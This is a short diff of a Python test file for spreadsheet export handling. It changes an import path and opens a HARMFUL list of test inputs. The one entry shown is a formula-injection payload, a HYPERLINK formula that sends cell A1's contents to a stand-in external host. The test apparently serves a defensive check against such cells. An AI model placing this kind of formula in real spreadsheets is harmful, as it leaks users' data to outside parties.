@@ -6,7 +6,7 @@ from decimal import Decimal
 
 import pytest
 
-from generations.web.csv import amount, answer, dangerous, lines, safe
+from generations.web.sheets import amount, answer, dangerous, lines, safe
 
 HARMFUL = [
     '=HYPERLINK("http://x.example/?"&A1)',
